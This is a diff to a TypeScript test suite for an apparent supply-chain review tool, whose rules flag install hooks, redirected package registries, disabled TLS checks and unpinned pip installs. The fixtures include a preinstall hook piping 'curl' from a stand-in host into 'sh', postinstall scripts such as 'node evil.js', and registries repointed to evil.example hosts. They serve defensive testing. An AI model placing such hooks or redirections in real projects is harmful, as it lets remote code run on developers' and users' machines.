@@ -38,8 +38,8 @@ interface Case {
   /** Evidence `before` / `after` of the first finding, when given. */
   sides?: [string, string];
   workTree?: true;
-  /** The level of every finding, when not error; a warning passes the `any` gate. */
-  level?: 'warning';
+  /** The level of every finding, when not error; a warning or a note passes the `any` gate. */
+  level?: 'warning' | 'note';
 }
 
 const cases: Case[] = [
@@ -124,12 +124,41 @@ const cases: Case[] = [
   },
   {
     name: 'the root package.json gains a postinstall, a workspace a prepare → one CPU027 each',
-    base: { 'package.json': pkg({ scripts: { test: 'vitest' } }), 'packages/lib/package.json': pkg({}) },
+    base: {
+      'package.json': pkg({ workspaces: ['packages/*'], scripts: { test: 'vitest' } }),
+      'packages/lib/package.json': pkg({}),
+    },
     head: {
-      'package.json': pkg({ scripts: { test: 'vitest', postinstall: "node -e \"require('https').get('x')\"" } }),
+      'package.json': pkg({
+        workspaces: ['packages/*'],
+        scripts: { test: 'vitest', postinstall: "node -e \"require('https').get('x')\"" },
+      }),
       'packages/lib/package.json': pkg({ scripts: { prepare: 'sh ./setup.sh' } }),
     },
-    want: ['CPU027@package.json:9', 'CPU027@packages/lib/package.json:8'],
+    want: ['CPU027@package.json:12', 'CPU027@packages/lib/package.json:8'],
+  },
+  {
+    name: 'a pnpm workspace package and a folder with its own lockfile gain install scripts → CPU027 each',
+    base: {
+      'pnpm-workspace.yaml': "packages:\n  - 'apps/**'\n  - '!apps/skip'\n",
+      'apps/web/package.json': pkg({}),
+      'tools/gen/package.json': pkg({}),
+      'tools/gen/package-lock.json': '{"lockfileVersion": 3, "packages": {}}\n',
+    },
+    head: {
+      'apps/web/package.json': pkg({ scripts: { preinstall: 'curl -s https://x.example | sh' } }),
+      'tools/gen/package.json': pkg({ scripts: { postinstall: 'node fetch.js' } }),
+    },
+    want: ['CPU027@apps/web/package.json:8', 'CPU027@tools/gen/package.json:8'],
+  },
+  {
+    name: 'a test fixture package.json (no lockfile, no workspace) gains a postinstall → CPU027 as a note only',
+    base: { 'package.json': pkg({}), 'test/fixtures/app/package.json': pkg({}), 'apps/skip/package.json': pkg({}) },
+    head: {
+      'test/fixtures/app/package.json': pkg({ scripts: { postinstall: 'node evil.js' } }),
+    },
+    want: ['CPU027@test/fixtures/app/package.json:8'],
+    level: 'note',
   },
   {
     name: 'a non-install script changed → nothing',
@@ -181,6 +210,79 @@ const cases: Case[] = [
     want: ['CPU030@.yarnrc.yml:1'],
   },
   {
+    name: 'yarn 1 .yarnrc repoints the registry and a quoted scope → one CPU025 naming both',
+    base: { '.yarnrc': '# yarn lockfile v1\nregistry "https://registry.npmjs.org/"\n' },
+    head: {
+      '.yarnrc':
+        '# yarn lockfile v1\nregistry "https://npm.evil.example/"\n"@acme:registry" "https://npm.evil.example/"\n',
+    },
+    want: ['CPU025@.yarnrc:3'],
+    sides: [
+      '@acme:registry=(unset) registry=https://registry.npmjs.org/',
+      '@acme:registry=https://npm.evil.example/ registry=https://npm.evil.example/',
+    ],
+  },
+  {
+    name: 'yarn 1 .yarnrc drops --install.ignore-scripts and names a yarn-path → CPU026',
+    base: { '.yarnrc': '--install.ignore-scripts true\n' },
+    head: { '.yarnrc': 'yarn-path "./tools/yarn.js"\n' },
+    want: ['CPU026@.yarnrc:1'],
+    sides: [
+      '--install.ignore-scripts=true yarn-path=(unset)',
+      '--install.ignore-scripts=(unset) yarn-path=./tools/yarn.js',
+    ],
+  },
+  {
+    name: 'yarn 1 .yarnrc edited without a watched setting → nothing',
+    base: { '.yarnrc': '--install.ignore-scripts true\n' },
+    head: { '.yarnrc': '--install.ignore-scripts true\nnetwork-timeout 600000\n' },
+    want: [],
+  },
+  {
+    name: 'pyproject gains a [[tool.poetry.source]] → CPU025',
+    base: { 'pyproject.toml': '[tool.poetry]\nname = "app"\nversion = "1"\n' },
+    head: {
+      'pyproject.toml':
+        '[tool.poetry]\nname = "app"\nversion = "1"\n\n[[tool.poetry.source]]\nname = "mirror"\nurl = "https://pypi.evil.example/simple"\npriority = "primary"\n',
+    },
+    want: ['CPU025@pyproject.toml:7'],
+  },
+  {
+    name: 'a [[tool.pdm.source]] repointed with verify_ssl off → CPU025 and CPU026',
+    base: { 'pyproject.toml': '[[tool.pdm.source]]\nname = "corp"\nurl = "https://pypi.corp.example/simple"\n' },
+    head: {
+      'pyproject.toml':
+        '[[tool.pdm.source]]\nname = "corp"\nurl = "https://pypi.evil.example/simple"\nverify_ssl = false\n',
+    },
+    want: ['CPU025@pyproject.toml:3', 'CPU026@pyproject.toml:4'],
+  },
+  {
+    name: 'a workflow adds pip install of bare names with an extra index and a trusted host → CPU029, CPU025, CPU026',
+    base: { '.github/workflows/ci.yml': workflow('pip install -r requirements.txt --require-hashes') },
+    head: {
+      '.github/workflows/ci.yml': workflow(
+        'pip install torch transformers --extra-index-url https://pypi.evil.example/simple --trusted-host pypi.evil.example',
+      ),
+    },
+    want: [
+      'CPU025@.github/workflows/ci.yml:8',
+      'CPU026@.github/workflows/ci.yml:8',
+      'CPU029@.github/workflows/ci.yml:8',
+    ],
+  },
+  {
+    name: 'a Dockerfile moves from a hash-pinned requirements install to bare names → CPU029',
+    base: { Dockerfile: 'FROM python:3.12\nRUN pip install --require-hashes -r requirements.txt\n' },
+    head: { Dockerfile: 'FROM python:3.12\nRUN pip install --upgrade pip\nRUN pip install requests flask\n' },
+    want: ['CPU029@Dockerfile:3'],
+  },
+  {
+    name: 'a Dockerfile adds a requirements install and upgrades pip → nothing',
+    base: { Dockerfile: 'FROM python:3.12\n' },
+    head: { Dockerfile: 'FROM python:3.12\nRUN python -m pip install -U pip\nRUN pip install -r requirements.txt\n' },
+    want: [],
+  },
+  {
     name: 'the work tree (the Action) repoints .npmrc → CPU025',
     base: { '.npmrc': 'registry=https://registry.npmjs.org/\n' },
     head: { '.npmrc': 'registry=https://npm.evil.example/\n' },
@@ -199,7 +301,7 @@ describe('review reports what the change makes the install do', () => {
     const found = r.findings.filter((f) => WATCH.test(f.ruleId));
     expect(found.map((f) => `${f.ruleId}@${f.location.path}:${f.location.line ?? 1}`).sort()).toEqual(want);
     expect(found.map((f) => f.level)).toEqual(want.map(() => level));
-    expect(r.gate?.passed).toBe(want.length === 0 || level === 'warning');
+    expect(r.gate?.passed).toBe(want.length === 0 || level !== 'error');
     if (sides) expect([found[0]?.evidence?.['before'], found[0]?.evidence?.['after']]).toEqual(sides);
   });
 });
